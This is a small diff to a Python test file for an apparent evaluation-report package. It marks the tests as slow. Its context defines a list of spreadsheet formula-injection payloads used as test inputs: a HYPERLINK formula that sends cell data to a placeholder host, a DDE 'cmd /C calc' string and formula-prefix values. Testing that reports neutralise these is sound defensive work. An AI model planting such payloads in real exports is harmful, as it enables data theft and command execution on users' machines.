@@ -43,6 +43,9 @@ from evalstats.report._results import (
 )
 from evalstats.report._untrusted import BIDI_CONTROLS, markdown_text, show_bidi
 
+# Integration (slow: make test runs it, make check does not): renders and rewrites whole reports.
+pytestmark = pytest.mark.slow
+
 SAMPLE = Path(__file__).resolve().parent.parent / "data" / "sample"
 ATTACKS = ['=HYPERLINK("http://x/?"&A1, "y")', "+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "-x"]
 
